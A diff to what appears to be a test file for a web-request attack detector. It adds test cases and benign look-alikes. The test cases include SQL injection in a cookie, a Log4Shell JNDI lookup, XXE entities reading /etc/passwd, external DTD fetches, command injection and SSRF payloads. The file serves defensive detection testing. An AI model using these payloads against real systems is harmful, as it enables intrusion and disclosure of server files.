@@ -28,11 +28,18 @@ ATTACKS: dict[str, tuple[dict[str, Any], tuple[str, str, str]]] = {
     "escapes of JSON": ({"request_headers": JSON, "request_body": b'{"q": "|\\tid"}'}, ("command_injection", "request.body", "q")),
     "a comment that splits words": ({"request_headers": JSON, "request_body": b'{"q": "1 union/**/select/**/1,2"}'}, ("sql_injection", "request.body", "q")),
     "an inclusion in well-formed XML": ({"request_headers": [("Content-Type", "text/xml")], "request_body": b'<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/hosts"/></r>'}, ("xxe", "request.body", "body")),
+    "a cookie": ({"request_headers": [("Cookie", "lang=en; pref=%27%20OR%20%271%27%3D%271")]}, ("sql_injection", "request.header", "cookie")),
+    "a cookie as it is": ({"request_headers": [("Cookie", "lang=${jndi:ldap://x/a}; b=1")]}, ("log4shell", "request.header", "cookie")),
+    "an image that is XML": ({"request_headers": [("Content-Type", "image/svg+xml")], "request_body": b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><s>&x;</s>'}, ("xxe", "request.body", "body")),
+    "a document type from elsewhere": ({"request_headers": [("Content-Type", "text/xml")], "request_body": b'<!DOCTYPE s PUBLIC "-//A/B" "http://e.example/x.dtd"><s/>'}, ("xxe", "request.body", "body")),
     "an address in the path": ({"path": "/proxy/http%3A%2F%2F127.0.0.1%2F"}, ("ssrf", "request.path", "path")),
 }  # fmt: skip
 QUIET: dict[str, dict[str, Any]] = {
     "a credential in its header": {"request_headers": [("X-Api-Key", "bob@example.com"), ("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc")]},
     "a cookie": {"request_headers": [("Cookie", "mail=bob@example.com")], "response_headers": [("Set-Cookie", "mail=bob@example.com")]},
+    "separators of cookies": {"request_headers": [("Cookie", "a=1; id=5; ls=2; cat=x")]},
+    "cookies of analytics": {"request_headers": [("Cookie", "__utmz=1.2.1.1.utmcsr=(direct)|utmccn=(direct)|utmcmd=(none); _ga=GA1.2.3.4; OptanonConsent=isGpcEnabled=0&datestamp=Tue+Nov+10+2026&groups=C0001%3A1%2CC0002%3A0; prefs=%7B%22theme%22%3A%22dark%22%7D; ref=https%3A%2F%2Fwww.example.com%2F")]},
+    "the document type of a page": {"request_headers": [("Content-Type", "text/xml")], "request_body": b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>'},
     "a request id": {"request_headers": [("X-Request-Id", "bob@example.com")]},
     "an order number in the path": {"path": "/v1/orders/4012888888881881"},
     "a form with numbers": {"request_headers": FORM, "request_body": b"a=4012+b&c=8888"},
